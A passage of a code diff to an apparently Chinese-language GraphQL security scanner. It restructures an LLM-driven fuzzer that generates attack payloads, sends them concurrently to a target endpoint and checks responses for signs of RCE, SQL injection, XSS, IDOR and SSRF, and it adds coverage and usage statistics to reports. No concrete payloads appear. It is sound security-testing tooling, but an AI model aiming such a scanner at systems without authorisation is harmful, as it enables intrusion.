                 result['analysis'] = "请求失败，可能是网络问题或 Payload 格式错误"
-                previous_attempts.append(result)
-                continue
+            else:
+                print(f"  📊 {self.prefix}#{index} [{vuln_type}] HTTP {status_code} | ⏱️  {elapsed_time:.2f}s")
+            return {'result': result, 'response_text': response_text or '', 'failed': failed}
+
+        def verify(record):
+            result = record['result']
+            if record['failed']:
+                # 请求失败的 Payload 不登记，之后仍可重新测试
+                dedup.release(result['original_payload'], result.get('variables'))
+            else:
+                dedup.record(result['original_payload'], result, result.get('variables'))
+                if result['payload'] != result['original_payload']:
+                    dedup.record(result['payload'], result, result.get('variables'))
+                record['vuln_detected'] = verify_result(result, record['response_text'], oast_domain,
+                                                        f['baseline'], f['timing'])
+                if clusterer is not None:
+                    clusterer.assign(result, record['response_text'])
+                self.unaggregated.append(result)
+            if checkpoint:
+                # 先写入断点，中途中断后续扫不会重发这个 Payload
+                checkpoint.write_result(self.label, record['result'], record['response_text'], record['failed'])
+
+        def needs_analysis(record):
+            if record['failed']:
+                return False
+            if triage is not None:
+                category, analysis = triage.classify(record['result'], record['response_text'])
+                if category != 'ambiguous':
+                    record['result']['analysis'] = analysis
+                    record['result']['triage'] = category
+                    return False
+            if (clusterer is not None and not record['result']['vulnerable']
+                    and not clusterer.is_representative(record['result'])):
+                # 同簇的代表已经（或将要）分析，汇总时复用其结论
+                record['clustered'] = True
+                return False
+            return True
 
-            # 4. AI 分析响应
-            log_info("  🤔 AI 正在分析响应...")
-            analysis = analyze_response_with_llm(payload, status_code or 0, response_text or '', elapsed_time, model, api_key)
-            result['analysis'] = analysis
+        def analyze(records):
+            # AI 批量分析（结论供下一轮生成参考）
+            llm_client.usage.round = iteration
+            log_info(f"🤔 {self.prefix}AI 正在批量分析 {len(records)} 个响应...")
+            analyses = analyze_responses_batch(
+                [dict(r['result'], response_text=r['response_text']) for r in records], model, api_key)
+            for record, verdict in zip(records, analyses):
+                result = record['result']
+                record['analyzed'] = True
+                result['analysis'] = verdict['analysis']
+                if verdict['vulnerable'] is not None:
+                    result['llm_verdict'] = verdict['vulnerable']
+                if triage is not None and verdict['source'] == 'llm':
+                    triage.remember(result, record['response_text'], verdict['analysis'])
+                print(f"  {Colors.CYAN}💡 [{result['type']}] {verdict['analysis']}{Colors.RESET}")
+
+        pipeline = FuzzPipeline(execute, verify, analyze, analysis_filter=needs_analysis,
+                                execute_workers=f['http_concurrency'], analyze_workers=f['analysis_concurrency'])
+        records = pipeline.run(dispatch())
+        self.round_requests = len(records)
+        if stop.is_set():
+            return
+        self.unaggregated = []
+
+        # 3. 按提交顺序汇总本轮结果，保证报告和下一轮提示词稳定
+        iteration_found_vulns = False
+        novel, tested, new_features = 0, 0, {}
+        for record in records:
+            result = record['result']
+            if record.get('clustered'):
+                # 簇成员不再单独反馈给 LLM，避免近似重复的响应占用提示词；
+                # 代表尚未分析完时，生成报告前由 resolve_members 补上最终结论
+                result['cluster_member'] = True
+                result['analysis'] = clusterer.representative_analysis(result)
+            else:
+                self.previous_attempts.append(result)
+            if checkpoint:
+                checkpoint.write_result(self.label, result, record['response_text'], record['failed'])
+            scheduler.record_result(result)
+            coverage.record(result)
+            if not record['failed']:
+                self.results.append(result)
+                if f['mutator'] is not None:
+                    f['mutator'].add_seed(result, record['response_text'])
+                if record.get('vuln_detected', False):
+                    iteration_found_vulns = True
+                    self.found += 1
+                if f['novelty'] is not None:
+                    tested += 1
+                    features = f['novelty'].observe(result, record['response_text'])
+                    novel += bool(features)
+                    for feature in features:
+                        new_features[feature] = new_features.get(feature, 0) + 1
+
+        if f['novelty'] is not None:
+            scan_budget.record_yield('llm_rounds', novel)
+            self.novelty_history.append(novel / tested if tested else 0.0)
+            detail = ', '.join(f"{NoveltyTracker.FEATURE_LABELS[k]} {v}" for k, v in new_features.items())
+            log_info(f"{self.prefix}本轮新颖度: {self.novelty_history[-1]:.0%}"
+                     f"（{novel}/{tested} 个结果出现新行为{': ' + detail if detail else ''}）")
+        if checkpoint:
+            checkpoint.write_round(self.label, iteration, self.novelty_history[-1] if f['novelty'] is not None else None)
+
+        triaged = sum(1 for r in records if 'triage' in r['result'])
+        if triaged:
+            log_info(f"{self.prefix}规则分诊已确定 {triaged} 个结果，"
+                     f"{sum(1 for r in records if r.get('analyzed'))} 个交给 AI 分析")
+        clustered = sum(1 for r in records if r.get('clustered'))
+        if clustered:
+            clusterer.record_skipped(clustered)
+            log_info(f"{self.prefix}{clustered} 个响应与已有响应簇相似，复用簇代表的分析")
+
+        if payload_stream is not None:
+            if payload_stream.all_failed:
+                log_error(f"{self.prefix}第 {iteration} 轮 Payload 生成失败")
+                self.done = True
+                return
+            if not payload_stream.received:
+                log_warning(f"{self.prefix}第 {iteration} 轮未能解析出有效 Payload")
+                self.done = True
+                return
+            log_success(f"{self.prefix}本轮流式生成 {payload_stream.received} 个 Payloads")
+
+        # 如果本轮找到了漏洞，并且不是最后一轮，提示继续
+        if iteration_found_vulns and iteration < max_iterations:
+            log_success(f"✅ {self.prefix}第 {iteration} 轮发现漏洞！")
+            print(f"{Colors.YELLOW}  AI 将在下一轮尝试发现更多漏洞...{Colors.RESET}\n")
+        elif iteration == max_iterations:
+            log_info(f"{self.prefix}已达到计划轮数 ({max_iterations} 轮)")
+        else:
+            print(f"{Colors.YELLOW}  {self.prefix}本轮未发现明显漏洞，AI 将调整策略继续尝试{Colors.RESET}\n")
 
-            print(f"  {Colors.CYAN}💡 分析: {analysis}{Colors.RESET}")
 
-            # 5. 多维度漏洞验证
-            vuln_detected = False
+class FuzzConfig:
+    """
+    智能 Fuzzing 的选项和共享组件（intelligent_fuzzing 的 config 参数）
+
+    调度：
+    - max_prompt_operations: 每轮提示词中的操作数上限，0 表示不限（由 PriorityScheduler 按风险选出）
+    - shard_tokens: 选出的操作按该 token 数切分为多个分片，各分片并发生成 Payload
+    - stream: 使用流式生成，每个 Payload 一解析完成就开始测试（此时按到达顺序测试，不再做优先级排序）
+    - output_mode: json 时模型输出结构化 Payload（可带 variables / expected_signal），解析失败回退文本解析
+    - http_concurrency: 所有会话共享的目标请求并发上限（request_gate）
+    - analysis_concurrency: 每个会话同时进行的分析批次数
+    - session_mode / session_concurrency: Schema 划分为 FuzzSession 的方式和同时运行的会话数
+
+    组件（为 None 时不启用，dedup / coverage 缺省时自动创建）：
+    - dedup: PayloadDeduplicator，跨会话按规范化指纹去重
+    - coverage: CoverageTracker，后续轮次引导 LLM 转向尚未覆盖的操作和参数
+    - triage: TriageGate，结论确定的响应直接给出分析，只有不确定的才交给 LLM
+    - novelty: NoveltyTracker，按响应新颖度自适应调整各会话的轮数（max_iterations 为基准轮数）
+    - clusterer: ResponseClusterer，响应在线聚类，每簇只有代表交给 LLM 分析并反馈到提示词
+    - checkpoint / resume_state: 断点文件和 ScanCheckpoint.load() 的结果，续扫时已测试的 Payload 不会重发
+    - baseline: BaselineEngine，规则验证与正常请求基线做差分
+    - timing: TimingVerifier，时间类发现要经过重发计时确认
+    - mutator: MutationFuzzer，会话运行期间在后台做语法变异
+    - session_stats: 不为 None 时写入各会话的汇总（操作名簇 -> 摘要）
+    """
 
-            # RCE 验证（支持时间盲注和回显检测）
-            if 'RCE' in vuln_type.upper() or 'CMD' in vuln_type.upper():
-                rce_result = verify_rce(elapsed_time, response_text)
-                if rce_result['vulnerable']:
-                    result['vulnerable'] = True
-                    result['details'] = rce_result['details']
-                    log_vuln("RCE", f"[{rce_result['method']}] {rce_result['details']}")
-                    vuln_detected = True
-
-            # SQL 注入验证
-            if 'SQL' in vuln_type.upper() and response_text:
-                sql_indicators = ['sql', 'syntax', 'mysql', 'postgresql', 'sqlite', 'query', 'database']
-                if any(ind in response_text.lower() for ind in sql_indicators):
-                    result['vulnerable'] = True
-                    result['details'] = "响应包含 SQL 错误信息"
-                    log_vuln("SQLi", "检测到 SQL 错误信息！")
-                    vuln_detected = True
+    def __init__(self, max_prompt_operations: int = 0, shard_tokens: int = 3000, stream: bool = True,
+                 output_mode: str = 'json', http_concurrency: int = 4, analysis_concurrency: int = 2,
+                 session_mode: str = 'cluster', session_concurrency: int = 4,
+                 dedup: PayloadDeduplicator = None, coverage: CoverageTracker = None, triage: TriageGate = None,
+                 novelty: NoveltyTracker = None, clusterer: ResponseClusterer = None,
+                 checkpoint: ScanCheckpoint = None, resume_state: dict = None, baseline: BaselineEngine = None,
+                 timing: TimingVerifier = None, mutator: MutationFuzzer = None, session_stats: dict = None):
+        self.max_prompt_operations = max_prompt_operations
+        self.shard_tokens = shard_tokens
+        self.stream = stream
+        self.output_mode = output_mode
+        self.http_concurrency = http_concurrency
+        self.analysis_concurrency = analysis_concurrency
+        self.session_mode = session_mode
+        self.session_concurrency = session_concurrency
+        self.dedup = dedup
+        self.coverage = coverage
+        self.triage = triage
+        self.novelty = novelty
+        self.clusterer = clusterer
+        self.checkpoint = checkpoint
+        self.resume_state = resume_state
+        self.baseline = baseline
+        self.timing = timing
+        self.mutator = mutator
+        self.session_stats = session_stats
 
-            # XSS 验证
-            if 'XSS' in vuln_type.upper() and response_text:
-                if verify_xss(response_text, payload):
-                    result['vulnerable'] = True
-                    result['details'] = "响应中反射了 XSS Payload"
-                    log_vuln("XSS", "检测到 XSS 漏洞！")
-                    vuln_detected = True
 
-            # 未授权访问验证
-            if 'AUTHZ' in vuln_type.upper() and response_text:
-                if verify_authz_bypass(response_text, status_code or 0):
-                    result['vulnerable'] = True
-                    result['details'] = "可能存在权限绕过"
-                    log_vuln("AUTHZ", "检测到未授权访问！")
-                    vuln_detected = True
+def intelligent_fuzzing(endpoint: str, mutations: list, oast_domain: str, model: str, api_key: str,
+                       timeout: int = 10, max_iterations: int = 3, queries: list = None, llm_timeout: int = 60,
+                       config: FuzzConfig = None) -> list:
+    """
+    智能 Fuzzing 系统：AI 驱动的迭代式漏洞测试
 
-            # IDOR 验证
-            if 'IDOR' in vuln_type.upper() and response_text:
-                if verify_idor(response_text, status_code or 0):
-                    result['vulnerable'] = True
-                    result['details'] = "可能存在 IDOR"
-                    log_vuln("IDOR", "检测到不安全的直接对象引用！")
-                    vuln_detected = True
-
-            # 信息泄露验证
-            if response_text:
-                leaked_info = verify_info_leak(response_text)
-                if leaked_info:
-                    result['vulnerable'] = True
-                    result['details'] = f"发现敏感关键词: {', '.join(leaked_info)}"
-                    log_vuln("INFO_LEAK", f"发现敏感信息泄露: {', '.join(leaked_info)}")
-                    vuln_detected = True
+    核心思想：
+    1. 生成初始 Payloads（基于 Mutations 和/或 Queries）
+    2. 发送并记录响应，规则验证器即时判定
+    3. AI 批量分析响应（与请求发送重叠进行）
+    4. 根据分析生成新的 Payloads
+    5. 重复 2-4，直到找到漏洞或达到最大迭代次数
 
-            # DoS 验证
-            if 'DOS' in vuln_type.upper():
-                if verify_dos(elapsed_time):
-                    result['vulnerable'] = True
-                    result['details'] = f"响应时间 {elapsed_time:.2f}s，可能存在资源耗尽"
-                    log_vuln("DOS", "检测到拒绝服务漏洞！")
-                    vuln_detected = True
+    调度选项和可选组件由 config（FuzzConfig）给出。
+    Schema 按 session_mode 划分为多个 FuzzSession（默认按操作类型和主要风险聚簇），
+    最多 session_concurrency 个会话同时运行，各自迭代、各自保留反馈历史。
+    每轮由 PriorityScheduler 选出提示词中的操作，并按风险优先级决定 Payload 的执行顺序；
+    执行、验证和分析由 FuzzPipeline 流水线并发完成。
+    resume_state 不为 None 时先回放其中的结果和会话状态；
+    mutator 确认漏洞或出现新行为的变异结果追加到返回结果末尾。
+    Ctrl-C 中断时停止派发新请求，返回已完成轮次的结果，由调用方照常生成报告。
+    设置了扫描预算（scan_budget）时，到达 Fuzzing 截止时间或请求用尽后按中断处理，返回已完成轮次的结果。
+    LLM 预算（--llm-budget）用尽后，各会话改用 generate_deterministic_payloads 再跑一轮后结束，
+    分析回退到 basic_response_analysis。
+    """
+    print(f"\n{Colors.CYAN}{'='*60}")
+    print(f"🧠 智能 AI Fuzzing 模式 (最多 {max_iterations} 轮迭代)")
+    print(f"{'='*60}{Colors.RESET}\n")
 
-            # SSRF 提示
-            if 'SSRF' in vuln_type.upper():
-                if status_code == 200:
-                    result['details'] = f"请检查 OAST 平台 ({oast_domain}) 是否有回连"
-                    log_warning(f"  ⚠️  SSRF Payload 已发送，请手动检查 OAST 平台")
+    config = config or FuzzConfig()
+    dedup = config.dedup or PayloadDeduplicator()
+    scheduler = PriorityScheduler(mutations, queries)
+    coverage = config.coverage or CoverageTracker(mutations, queries)
+    triage, novelty, clusterer, mutator = config.triage, config.novelty, config.clusterer, config.mutator
+    checkpoint, resume_state = config.checkpoint, config.resume_state
+    baseline, timing = config.baseline, config.timing
+    session_concurrency = config.session_concurrency
+    request_gate.configure(config.http_concurrency)
+
+    fuzzer = dict(
+        endpoint=endpoint, oast_domain=oast_domain, model=model, api_key=api_key, timeout=timeout,
+        llm_timeout=llm_timeout, max_prompt_operations=config.max_prompt_operations,
+        shard_tokens=config.shard_tokens, stream=config.stream, output_mode=config.output_mode,
+        http_concurrency=config.http_concurrency, analysis_concurrency=config.analysis_concurrency,
+        dedup=dedup, scheduler=scheduler, coverage=coverage, triage=triage, novelty=novelty,
+        clusterer=clusterer, checkpoint=checkpoint, baseline=baseline, timing=timing, mutator=mutator,
+        stop=threading.Event()
+    )
+    plans = build_fuzz_sessions(mutations, queries, config.session_mode, scheduler.ranked_operations())
+    sessions = [FuzzSession(plan['label'], plan['mutations'], plan['queries'], fuzzer, show_label=len(plans) > 1)
+                for plan in plans]
+    if len(sessions) > 1:
+        log_info(f"划分为 {len(sessions)} 个 Fuzzing 会话（最多 {session_concurrency} 个并发）: "
+                 f"{', '.join(session.label for session in sessions)}")
+
+    restored_mutations = []
+    if resume_state:
+        by_label = {session.label: session for session in sessions}
+        if mutator is not None:
+            mutator.fuzzer = fuzzer
+        for label, result, response_text, failed in resume_state['results']:
+            if not failed:
+                # 只有成功发送的 Payload 进入去重表，网络失败的续扫时重新发送
+                dedup.record(result['original_payload'], result, result.get('variables'))
+                if result['payload'] != result['original_payload']:
+                    dedup.record(result['payload'], result, result.get('variables'))
+            if label == MutationFuzzer.CHECKPOINT_LABEL:
+                coverage.record(result)
+                if mutator is not None:
+                    mutator.restore(result, response_text)
+                elif result.get('vulnerable'):
+                    restored_mutations.append(result)
+                continue
+            scheduler.record_result(result)
+            coverage.record(result)
+            session = by_label.get(label)
+            if session:
+                session.previous_attempts.append(result)
+            if failed:
+                continue
+            if clusterer is not None:
+                clusterer.assign(result, response_text)
+            if novelty is not None:
+                novelty.observe(result, response_text)
+            if session:
+                session.results.append(result)
+                session.found += int(bool(result.get('vulnerable')))
+        for label, state in resume_state['sessions'].items():
+            if label in by_label:
+                by_label[label].restore(state)
+        log_success(f"从断点恢复 {len(resume_state['results'])} 个已测试的 Payload，"
+                    f"{sum(1 for s in resume_state['sessions'].values() if s['done'])} 个会话已完成")
+
+    if mutator is not None:
+        # 只用 Query 的基线做初始种子；开启 --mutate-mutations 时再加入会话发送过的 Mutation
+        for profile in (baseline.profiles.values() if baseline else []):
+            if profile['kind'] == 'query':
+                mutator.add_seed({'payload': profile['payload']})
+        mutator.start(fuzzer)
+
+    workers = []
+    pending = [session for session in sessions if not session.done]
+    pending_lock = threading.Lock()
+
+    def worker():
+        while not fuzzer['stop'].is_set():
+            with pending_lock:
+                if not pending:
+                    return
+                session = pending.pop(0)
+            try:
+                session.run(max_iterations)
+            except Exception as e:
+                log_error(f"{session.prefix}会话异常: {e}")
 
-            print(f"  📊 HTTP {status_code} | ⏱️  {elapsed_time:.2f}s")
+    for _ in range(min(max(1, session_concurrency), len(pending))):
+        thread = threading.Thread(target=worker, daemon=True)
+        thread.start()
+        workers.append(thread)
+    interrupted = None
+    try:
+        for thread in workers:
+            while thread.is_alive() and not interrupted:
+                thread.join(0.5)
+                if scan_budget.enabled and scan_budget.deadline_reached():
+                    scan_budget.stopped = scan_budget.stopped or 'time'
+                    interrupted = "扫描预算已用尽"
+    except KeyboardInterrupt:
+        interrupted = "扫描被中断"
+    if interrupted:
+        # 停止派发新请求，未完成的轮次已写入断点，可用 --resume 继续
+        fuzzer['stop'].set()
+        llm_client.cancel()
+        log_warning(f"{interrupted}，使用已完成的结果生成报告"
+                    f"{'（可使用 --resume 从断点继续）' if checkpoint else ''}")
+        # 等待进行中的请求和验证收尾（设置了时间预算时不超过报告预留时间的一半）
+        join_deadline = time.time() + max(0.0, min(timeout + 5,
+                                                   scan_budget.time_left() + scan_budget.report_reserve / 2))
+        try:
+            for thread in workers:
+                thread.join(max(0.0, join_deadline - time.time()))
+        except KeyboardInterrupt:
+            pass
+    if mutator is not None:
+        mutator.finish()
 
-            if vuln_detected:
-                iteration_found_vulns = True
+    if dedup.skipped:
+        log_info(f"累计跳过 {dedup.skipped} 个重复 Payload")
 
-            all_results.append(result)
-            previous_attempts.append(result)
+    final_coverage = coverage.summary()
+    log_info(f"覆盖率: 操作 {final_coverage['operations']['percent']}%, "
+             f"参数 {final_coverage['arguments']['percent']}%, "
+             f"漏洞类型 {final_coverage['risk_classes']['percent']}%")
 
-        # 如果本轮找到了漏洞，并且不是最后一轮，询问是否继续
-        if iteration_found_vulns and iteration < max_iterations:
-            log_success(f"✅ 第 {iteration} 轮发现漏洞！")
-            print(f"{Colors.YELLOW}  AI 将在下一轮尝试发现更多漏洞...{Colors.RESET}\n")
-        elif iteration == max_iterations:
-            log_info(f"已达到最大迭代次数 ({max_iterations} 轮)")
-        else:
-            print(f"{Colors.YELLOW}  本轮未发现明显漏洞，AI 将调整策略继续尝试{Colors.RESET}\n")
+    if config.session_stats is not None and len(sessions) > 1:
+        for session in sessions:
+            config.session_stats[session.label] = session.summary()
 
+    # 按会话优先级顺序合并结果，保证报告稳定
+    all_results = []
+    for session in sessions:
+        all_results.extend(session.results)
+        if interrupted:
+            all_results.extend(list(session.unaggregated))
+    if mutator is not None:
+        all_results.extend(list(mutator.results))
+    all_results.extend(restored_mutations)
+    if clusterer is not None:
+        clusterer.resolve_members(all_results)
     return all_results
 
 
-def run_vulnerability_verification(endpoint: str, payloads: list, oast_domain: str, timeout: int = 10) -> list:
+def run_vulnerability_verification(endpoint: str, payloads: list, oast_domain: str, timeout: int = 10,
+                                   dedup: PayloadDeduplicator = None, coverage: CoverageTracker = None,
+                                   baseline: BaselineEngine = None, timing: TimingVerifier = None) -> list:
     """执行漏洞验证"""
     results = []
+    dedup = dedup or PayloadDeduplicator()
 
     print(f"\n{Colors.CYAN}{'='*60}")
     print(f"漏洞验证")
@@ -2266,10 +6455,23 @@ def run_vulnerability_verification(endpoint: str, payloads: list, oast_domain: s
         vuln_type = payload_info['type']
         payload = payload_info['payload']
 
+        if not scan_budget.allow('verification'):
+            log_warning(f"扫描预算已用尽，剩余 {len(payloads) - i} 个 Payload 不再测试")
+            break
         log_info(f"测试 Payload #{i+1} [{vuln_type}]")
         print(f"  {Colors.WHITE}{payload[:100]}...{Colors.RESET}" if len(payload) > 100 else f"  {Colors.WHITE}{payload}{Colors.RESET}")
 
-        response_text, elapsed_time, status_code = execute_payload(endpoint, payload, timeout)
+        variables = payload_info.get('variables')
+        if dedup.lookup(payload, variables) is not None:
+            log_info("  跳过重复 Payload（已测试过等价的 Payload）")
+            continue
+
+        try:
+            response_text, elapsed_time, status_code = execute_payload(
+                endpoint, payload, timeout, variables, timing_sensitive=is_timing_sensitive(vuln_type, payload, variables))
+        except BudgetExhausted:
+            log_warning("请求预算已用尽，跳过剩余 Payload")
+            break
 
         result = {
             'type': vuln_type,
@@ -2279,47 +6481,25 @@ def run_vulnerability_verification(endpoint: str, payloads: list, oast_domain: s
             'vulnerable': False,
             'details': ''
         }
-
+        if variables:
+            result['variables'] = variables
         if response_text is None:
-            if elapsed_time >= timeout:
-                log_warning(f"  请求超时 (>{timeout}s) - 可能存在时间盲注")
-                if 'RCE' in vuln_type.upper() or 'CMD' in vuln_type.upper():
-                    result['vulnerable'] = True
-                    result['details'] = f"响应超时 ({elapsed_time:.2f}s)，可能存在命令注入"
-                    log_vuln("RCE", f"响应超时，可能存在命令注入!")
-            else:
-                log_error(f"  请求失败")
+            # 请求失败或超时：不登记结果，等价 Payload 之后仍可重新测试
+            dedup.release(payload, variables)
+        else:
+            dedup.record(payload, result, variables)
+
+        if response_text is None and elapsed_time < timeout:
+            log_error(f"  请求失败")
             results.append(result)
             continue
+        if response_text is None:
+            log_warning(f"  请求超时 (>{timeout}s) - 可能存在时间盲注")
+        elif coverage:
+            coverage.record(result)
 
-        # RCE 验证（支持时间盲注和回显检测）
-        if 'RCE' in vuln_type.upper() or 'CMD' in vuln_type.upper():
-            rce_result = verify_rce(elapsed_time, response_text)
-            if rce_result['vulnerable']:
-                result['vulnerable'] = True
-                result['details'] = rce_result['details']
-                log_vuln("RCE", f"[{rce_result['method']}] {rce_result['details']}")
-
-        # SSRF 验证
-        if 'SSRF' in vuln_type.upper():
-            if status_code == 200 and 'error' not in response_text.lower():
-                result['details'] = f"请求成功，请检查 OAST 平台 ({oast_domain})"
-                log_warning(f"  SSRF Payload 已发送，请检查 OAST 平台")
-
-        # 信息泄露验证
-        leaked_info = verify_info_leak(response_text)
-        if leaked_info:
-            result['vulnerable'] = True
-            result['details'] = f"发现敏感关键词: {', '.join(leaked_info)}"
-            log_vuln("INFO_LEAK", f"发现敏感关键词: {', '.join(leaked_info)}")
-
-        # SQL 注入验证
-        if 'SQL' in vuln_type.upper():
-            sql_indicators = ['sql', 'syntax', 'mysql', 'postgresql', 'oracle', 'sqlite', 'query']
-            if any(ind in response_text.lower() for ind in sql_indicators):
-                result['vulnerable'] = True
-                result['details'] = "响应中包含 SQL 错误信息"
-                log_vuln("SQLi", "响应中包含 SQL 错误信息!")
+        # 与智能 Fuzzing 共用规则验证（基线差分、计时复测）
+        verify_result(result, response_text, oast_domain, baseline, timing)
 
         if status_code:
             log_info(f"  状态码: {status_code}, 响应时间: {elapsed_time:.2f}s")
@@ -2333,7 +6513,79 @@ def run_vulnerability_verification(endpoint: str, payloads: list, oast_domain: s
 # 报告生成
 # =============================================================================
 
-def generate_html_report(results: list, target_url: str = "", output_file: str = "report.html"):
+# 运行统计中各项的中文名称
+SCAN_STAT_LABELS = {
+    'response_cache': '响应缓存',
+    'apq': 'APQ 传输',
+    'llm_cache': 'LLM 缓存',
+    'triage': '结果分诊',
+    'ollama_backends': 'Ollama 后端',
+    'request_gate': '请求闸门',
+    'fuzz_sessions': 'Fuzzing 会话',
+    'novelty': '响应新颖度',
+    'response_clusters': '响应聚类',
+    'baseline': '差分基线',
+    'timing': '计时确认',
+    'mutation': '变异 Fuzzing',
+    'scan_budget': '扫描预算',
+}
+
+
+def build_scan_stats_html(scan_stats: dict) -> str:
+    """生成覆盖率和运行统计部分的 HTML"""
+    import html as html_module
+
+    if not scan_stats:
+        return ""
+
+    sections = ""
+    coverage = scan_stats.get('coverage')
+    if coverage:
+        rows = ""
+        for key, label in (('operations', '操作'), ('arguments', '参数'), ('risk_classes', '漏洞类型')):
+            item = coverage[key]
+            rows += (f'<div class="stat-item"><span class="stat-type">{label}</span>'
+                     f'<span>{item["covered"]}/{item["total"]} ({item["percent"]}%)</span></div>')
+        uncovered = coverage.get('uncovered_operations') or []
+        if uncovered:
+            names = ', '.join(html_module.escape(n) for n in uncovered[:30])
+            more = f" ... (+{len(uncovered) - 30})" if len(uncovered) > 30 else ""
+            rows += f'<div class="stat-item"><span class="stat-type">未覆盖操作</span><span>{names}{more}</span></div>'
+        sections += f"<div class='section'><div class='section-header'>测试覆盖</div><div class='section-body'>{rows}</div></div>"
+
+    usage = scan_stats.get('llm_usage')
+    if usage:
+        def usage_row(label: str, bucket: dict) -> str:
+            failed = f"（失败 {bucket['failed']}）" if bucket.get('failed') else ""
+            return (f'<div class="stat-item"><span class="stat-type">{html_module.escape(label)}</span>'
+                    f'<span>{bucket["calls"]} 次{failed}, tokens {bucket["prompt_tokens"]}+{bucket["completion_tokens"]}, '
+                    f'{bucket["seconds"]:.1f}s</span></div>')
+
+        rows = usage_row('合计', usage)
+        rows += f'<div class="stat-item"><span class="stat-type">缓存命中</span><span>{usage["cached"]} 次</span></div>'
+        for group in ('by_call_site', 'by_round', 'by_model', 'by_target'):
+            for label, bucket in usage.get(group, {}).items():
+                rows += usage_row(label, bucket)
+        if usage.get('budget'):
+            budget = ', '.join(f"{k}={v:g}" for k, v in usage['budget'].items())
+            state = f"已用尽（{usage['exhausted']}）" if usage.get('exhausted') else "未用尽"
+            rows += f'<div class="stat-item"><span class="stat-type">预算</span><span>{html_module.escape(budget)}，{state}</span></div>'
+        sections += f"<div class='section'><div class='section-header'>LLM 用量</div><div class='section-body'>{rows}</div></div>"
+
+    rows = ""
+    for key, stats in scan_stats.items():
+        if key in ('coverage', 'llm_usage') or not isinstance(stats, dict):
+            continue
+        values = ', '.join(f"{html_module.escape(str(k))}: {html_module.escape(str(v))}" for k, v in stats.items())
+        label = SCAN_STAT_LABELS.get(key, key)
+        rows += f'<div class="stat-item"><span class="stat-type">{html_module.escape(label)}</span><span>{values}</span></div>'
+    if rows:
+        sections += f"<div class='section'><div class='section-header'>运行统计</div><div class='section-body'>{rows}</div></div>"
+
+    return sections
+
+
+def generate_html_report(results: list, target_url: str = "", output_file: str = "report.html", scan_stats: dict = None):
     """
     生成 HTML 格式的漏洞报告
 
@@ -2341,6 +6593,7 @@ def generate_html_report(results: list, target_url: str = "", output_file: str =
         results: 测试结果列表
         target_url: 目标 URL
         output_file: 输出文件路径
+        scan_stats: 覆盖率、缓存等运行统计（可选）
     """
     from datetime import datetime
     import html as html_module
@@ -2390,6 +6643,8 @@ def generate_html_report(results: list, target_url: str = "", output_file: str =
                         <span>HTTP {vuln.get('status_code', 'N/A')}</span>
                         <span>响应时间: {vuln.get('response_time', 0):.2f}s</span>
                         {"<span class='fixed-badge'>已自动修复</span>" if vuln.get('error_fixed') else ""}
+                        {f"<span>重复出现 {vuln['duplicate_count']} 次</span>" if vuln.get('duplicate_count') else ""}
+                        {f"<span>同类响应 {vuln['cluster_size']} 个</span>" if vuln.get('cluster_size', 1) > 1 else ""}
                     </div>
                 </div>
             </div>
@@ -2402,6 +6657,14 @@ def generate_html_report(results: list, target_url: str = "", output_file: str =
         </div>
         """
 
+    scan_stats = scan_stats or {}
+    coverage_percent = scan_stats.get('coverage', {}).get('operations', {}).get('percent')
+    coverage_card = f"""
+            <div class="summary-card">
+                <span class="number">{coverage_percent:.0f}%</span>
+                <span class="label">操作覆盖率</span>
+            </div>""" if coverage_percent is not None else ""
+
     # 生成类型统计 HTML
     type_stats_html = ""
     for vtype, vulns in vuln_by_type.items():
@@ -2710,7 +6973,7 @@ def generate_html_report(results: list, target_url: str = "", output_file: str =
             <div class="summary-card">
                 <span class="number">{datetime.now().strftime("%H:%M")}</span>
                 <span class="label">扫描时间</span>
-            </div>
+            </div>{coverage_card}
         </div>
 
         {"<div class='section'><div class='section-header'>漏洞类型分布</div><div class='section-body'>" + type_stats_html + "</div></div>" if type_stats_html else ""}
@@ -2722,6 +6985,8 @@ def generate_html_report(results: list, target_url: str = "", output_file: str =
             </div>
         </div>
 
+        {build_scan_stats_html(scan_stats)}
+
         <div class="footer">
             <p>生成时间: {datetime.now().strftime("%Y-%m-%d %H:%M:%S")}</p>
             <p>Powered by <a href="https://github.com/yourusername/GraphQL-MCP">mcp-GraphQL</a></p>
@@ -2738,8 +7003,8 @@ def generate_html_report(results: list, target_url: str = "", output_file: str =
     return output_file
 
 
-def generate_report(results: list, output_file: str = None, target_url: str = ""):
-    """生成漏洞报告"""
+def generate_report(results: list, output_file: str = None, target_url: str = "", scan_stats: dict = None):
+    """生成漏洞报告（scan_stats 为覆盖率、缓存等运行统计）"""
     print(f"\n{Colors.CYAN}{'='*60}")
     print(f"漏洞扫描报告")
     print(f"{'='*60}{Colors.RESET}\n")
@@ -2759,6 +7024,12 @@ def generate_report(results: list, output_file: str = None, target_url: str = ""
         print(f"{Colors.GREEN}未发现明显漏洞{Colors.RESET}")
         print(f"{Colors.YELLOW}注意: SSRF 漏洞需要手动检查 OAST 平台{Colors.RESET}")
 
+    coverage = (scan_stats or {}).get('coverage')
+    if coverage:
+        print(f"\n测试覆盖率: 操作 {coverage['operations']['covered']}/{coverage['operations']['total']} "
+              f"({coverage['operations']['percent']}%), 参数 {coverage['arguments']['percent']}%, "
+              f"漏洞类型 {coverage['risk_classes']['percent']}%")
+
     # 保存报告
     if output_file:
         report_data = {
@@ -2766,6 +7037,8 @@ def generate_report(results: list, output_file: str = None, target_url: str = ""
             'vulnerabilities_found': len(vulnerabilities),
             'results': results
         }
+        if scan_stats:
+            report_data['scan_stats'] = scan_stats
 
         if output_file.endswith('.json'):
             with open(output_file, 'w', encoding='utf-8') as f:
@@ -2773,14 +7046,23 @@ def generate_report(results: list, output_file: str = None, target_url: str = ""
             log_success(f"JSON 报告已保存至: {output_file}")
         elif output_file.endswith('.html'):
             # 生成 HTML 报告
-            generate_html_report(results, target_url, output_file)
+            generate_html_report(results, target_url, output_file, scan_stats)
         else:
             # 默认生成 Markdown 报告
             with open(output_file, 'w', encoding='utf-8') as f:
                 f.write("# mcp-GraphQL 漏洞扫描报告\n\n")
                 f.write(f"## 扫描统计\n\n")
                 f.write(f"- 总测试数: {len(results)}\n")
-                f.write(f"- 发现漏洞: {len(vulnerabilities)}\n\n")
+                f.write(f"- 发现漏洞: {len(vulnerabilities)}\n")
+                if coverage:
+                    f.write(f"- 操作覆盖率: {coverage['operations']['percent']}%\n")
+                    f.write(f"- 参数覆盖率: {coverage['arguments']['percent']}%\n")
+                    f.write(f"- 漏洞类型覆盖率: {coverage['risk_classes']['percent']}%\n")
+                usage = (scan_stats or {}).get('llm_usage')
+                if usage:
